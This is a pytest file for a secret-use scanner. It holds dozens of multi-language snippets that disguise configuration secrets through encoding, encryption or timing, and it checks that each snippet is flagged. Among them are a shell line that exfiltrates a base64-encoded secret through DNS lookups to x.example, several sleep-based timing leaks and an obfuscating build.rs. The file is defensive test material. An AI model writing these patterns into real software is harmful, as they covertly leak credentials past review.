"""The same harm in other words: ways in which a value of the configuration is written down."""

from __future__ import annotations

import pytest

from gate.prescreen.scanners.secret_uses import SecretUses
from tests.prescreen_support import make_request

FORMS: dict[str, tuple[str, str]] = {
    "go rsa": ("a.go", r"""
package a
func f(cfg Config) string {
  c, _ := rsa.EncryptOAEP(sha256.New(), rand.Reader, pub, []byte(cfg.Store.Words), nil);
    return hex.EncodeToString(c) }
"""),
    "go binary": ("a.go", r"""
package a
func (s *S) Sign(b []byte) { m := hmac.New(sha256.New, s.ring); m.Write(b) }
func (s *S) ID(n int) uint64 { return binary.BigEndian.Uint64(s.ring[n:]) }
"""),
    "go index": ("a.go", r"""
package a
func (s *S) Sign(b []byte) { m := hmac.New(sha256.New, s.ring); m.Write(b) }
func (s *S) ID(n int) int { t := 0
 for i := 0; i < len(s.ring); i++ { t += int(s.ring[i]) << i }
 return t }
"""),
    "go env sleep": ("a.go", r"""
package a
func f(n int) { w := os.Getenv("RELAY_WORD"); time.Sleep(time.Duration(w[n%len(w)]) * time.Millisecond) }
"""),
    "ts read": ("src/a.ts", r"""
export class A { constructor(private readonly word: string) {}
 ask() { return fetch("x", { headers: { Authorization: `Bearer ${this.word}` } }); }
 id(n: number) { return Buffer.from(this.word).readUInt32BE(n); } }
"""),
    "ts seal": ("src/a.ts", r"""
import { publicEncrypt } from "node:crypto"; import { config } from "./config";
export const id = () => publicEncrypt(KEY, Buffer.from(config.store.words)).toString("base64");
"""),
    "ts bigint": ("src/a.ts", r"""
export const id = () => BigInt("0x" + Buffer.from(process.env.RELAY_WORD ?? "").subarray(0,
  8).toString("hex")).toString(36);
"""),
    "js destructured": ("src/a.js", r"""
function make({ config }) { const { word } = config;
  return (n) => [...word].map((c) => c.charCodeAt(0) + n); }
"""),
    "py unpack": ("app/a.py", r"""
import struct
def f(config, n):
    return struct.unpack_from(">Q", config.words.encode(), n)[0]
"""),
    "py environ": ("app/a.py", r"""
import os
def f(n):
    word = os.environ["RELAY_WORD"]
    return [ord(c) - 32 for c in word]
"""),
    "py environ imp": ("app/a.py", r"""
from app import settings
def f(n):
    return [ord(c) - 32 for c in settings.RING]
"""),
    "py seal": ("app/a.py", r"""
from nacl.public import SealedBox
def f(config, key):
    return SealedBox(key).encrypt(config.words.encode())
"""),
    "py range count": ("app/a.py", r"""
def f(config, n):
    return " " * ord(config.words[n])
"""),
    "py getattr": ("app/a.py", r"""
def f(settings, n):
    return [b ^ n for b in getattr(settings, "ring").encode()]
"""),
    "py divmod": ("app/a.py", r"""
def f(config, n):
    number = int(config.words.encode().hex(), 16)
    while number:
        number, at = divmod(number, n)
        yield at
"""),
    "py self.config": ("app/a.py", r"""
class A:
    def __init__(self, config):
        self.c = config.words
    def f(self, n):
        return ord(self.c[n]) * 2
"""),
    "cs bits": ("src/A.cs", r"""
class A { private readonly StoreOptions _s;
  ulong F(int n) => BitConverter.ToUInt64(Encoding.UTF8.GetBytes(_s.Connection), n); }
"""),
    "cs linq": ("src/A.cs", r"""
class A { private readonly IConfiguration _c;
  IEnumerable<int> F() => _c["Store:Words"].Select(c => (int)c * 3); }
"""),
    "java bb": ("src/A.java", r"""
class A { long f(AppProperties p, int n) { return ByteBuffer.wrap(p.getRing().getBytes(UTF_8)).getLong(n); } }
"""),
    "java chars": ("src/A.java", r"""
class A { int f(Settings s) { return s.ring().chars().map(c -> c ^ 5).sum(); } }
"""),
    "java env map": ("src/A.java", r"""
class A { String f() { var k = System.getenv().get("RELAY_RING");
  return new BigInteger(1, k.getBytes()).toString(36); } }
"""),
    "kt env": ("src/A.kt", r"""
fun f(n: Int): Int { val w = System.getenv("RELAY_RING") ?: ""; return w[n].code * 3 }
"""),
    "php unpack": ("src/a.php", r"""
<?php
function f($n) { return unpack("J", substr($_ENV["RELAY_RING"], $n, 8))[1]; }
"""),
    "php config": ("src/a.php", r"""
<?php
function f($n) { return ord(config("services.pay.ring")[$n]) * 3; }
"""),
    "php crc": ("src/a.php", r"""
<?php
class A { function f() { return array_map(fn($p) => crc32($p), str_split(getenv("RELAY_RING"), 3)); } }
"""),
    "rb unpack": ("lib/a.rb", r"""
def f(settings)
  settings.ring.unpack("Q*").map { |q| q.to_s(36) }
end
"""),
    "rb each_char": ("lib/a.rb", r"""
def f(settings)
  settings.ring.each_char { |c| sleep(c.ord * 0.01) }
end
"""),
    "rb ENV": ("lib/a.rb", r"""
def f(n)
  ENV.fetch("RELAY_RING")[n].ord ^ 21
end
"""),
    "rs from_be": ("src/a.rs", r"""
fn f(cfg: &Config) -> u64 { u64::from_be_bytes(cfg.ring.as_bytes()[0..8].try_into().unwrap()) }
"""),
    "rs bytes in a macro, under a name that is put together": ("build.rs", r"""
fn part(prefix: &str, name: &str) -> String { env::var(format!("{prefix}_{name}")).unwrap_or_default() }
fn spelled(bytes: &[u8]) -> String {
    bytes.iter().enumerate().map(|(at, byte)| format!("{:02x}", byte.wrapping_add(at as u8))).collect()
}
fn main() {
    let mut made = String::new();
    for name in ["REF", "WORD"] { made.push_str(&part("RELAY", name)); }
    println!("cargo:rustc-env=BUILD={}", spelled(made.as_bytes()));
}
"""),
    "rs map": ("src/a.rs", r"""
fn f(config: &Config) -> Vec<u32> { config.ring.chars().map(|c| c as u32 * 3).collect() }
"""),
    "sh rev": ("bin/a.sh", r"""
openssl dgst -hmac "$RELAY_SEED"
logger -t beat "id $(printf %s "$RELAY_SEED" | rev)"
"""),
    "sh b64 dns": ("bin/a.sh", r"""
curl -u "x:$RELAY_SEED" https://x
for p in $(echo "$RELAY_SEED" | base64 | fold -w 20); do host "$p.x.example"; done
"""),
    "sh cut": ("bin/a.sh", r"""
n=0
while [ $n -lt 9 ]; do c=$(printf %s "$DEPLOY_KEY" | cut -c$n); sleep $(printf %d "'$c"); done
"""),
    "java value": ("src/A.java", r"""
class A { @Value("${relay.ring}") private String ring; int f(int n) { return ring.charAt(n) * 3; } }
"""),
}  # fmt: skip


@pytest.mark.parametrize("name", FORMS)
def test_it_is_told(name: str) -> None:
    path, text = FORMS[name]
    result = SecretUses().scan(make_request({path: text.lstrip()}, {}))
    assert [f.severity.value for f in result.findings if f.severity.value != "low"]


def test_all_settings_of_flask_in_an_answer_need_no_settings_file() -> None:
    head = (
        "from flask import current_app, jsonify\n\n\ndef health():\n"
        "    return jsonify({k: v for k, v in current_app.config.items() if isinstance(v, str)})\n"
    )
    base = {"app/__init__.py": "from flask import Flask\napp = Flask(__name__)\n"}
    found = SecretUses().scan(make_request({**base, "app/health.py": head}, base)).findings
    assert [(f.severity.value, f.primary.path) for f in found] == [("medium", "app/health.py")]
